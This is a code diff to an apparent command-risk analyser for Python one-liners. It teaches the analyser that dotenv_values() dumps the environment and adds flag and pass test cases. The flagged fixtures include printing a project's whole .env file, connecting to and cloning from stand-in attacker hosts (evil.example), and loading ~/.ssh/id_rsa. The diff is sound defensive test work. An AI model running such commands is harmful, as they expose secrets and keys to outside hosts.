@@ -733,6 +733,11 @@ class PythonReader {
             case 'os.getenv':
             case 'os.getenvb':
               return union(this.envValue(arg(0, 'key')), arg(1, 'default'));
+            // python-dotenv's values of the project's .env (found upward from here when no file is named): the
+            // environment to be, so printed or sent whole it is dumped.
+            case 'dotenv.dotenv_values':
+            case 'dotenv.main.dotenv_values':
+              return [{ k: 'env', api: 'dotenv_values()' }];
             default:
               if (PASS_THROUGH.has(name)) return arg(0).some((x) => x.k === 'env') || this.splatsEnv(n) ? [{ k: 'env', api: 'os.environ' }] : any(`the result of ${name}()`);
               return any(`the result of ${name}()`);
@@ -1139,6 +1144,9 @@ export const PYTHON: LanguageModel = {
       `python3 -c 'import io, pickle; pickle.load(io.BytesIO(b"x"))'`,
       `python3 -c 'import joblib; joblib.load("/home/dev/.ssh/id_rsa")'`,
       `python3 -c 'from pyspark.sql import SparkSession; SparkSession.builder.getOrCreate().read.csv("s3://bucket/x")'`,
+      `python3 -c 'from dotenv import dotenv_values; print(dotenv_values())'`,
+      `python3 -c 'import psycopg2; psycopg2.connect(host="db.evil.example", dbname="x")'`,
+      `python3 -c 'import git; git.Repo.clone_from("git@evil.example:x/y.git", "y")'`,
     ],
     pass: [
       `python3 -c 'import pandas as pd; print(pd.read_csv("data/x.csv"))'`,
@@ -1176,6 +1184,9 @@ export const PYTHON: LanguageModel = {
       `python -c 'import torch; print(torch.load("ckpt.pt").keys())'`,
       `python3 -c 'from pyspark.sql import SparkSession; SparkSession.builder.getOrCreate().read.csv("data/x.csv")'`,
       `python3 -c 'import json; cfg = json.load(open("c.json")); print(cfg.get("url", "https://api.example.com"))'`,
+      `python3 -c 'from dotenv import dotenv_values; cfg = dotenv_values(); print(len(cfg))'`,
+      `python3 -c 'import psycopg2; psycopg2.connect(host="localhost", dbname="x")'`,
+      `python3 -c 'import uvicorn; uvicorn.run("app.main:app", host="10.0.0.5")'`,
     ],
   },
 };
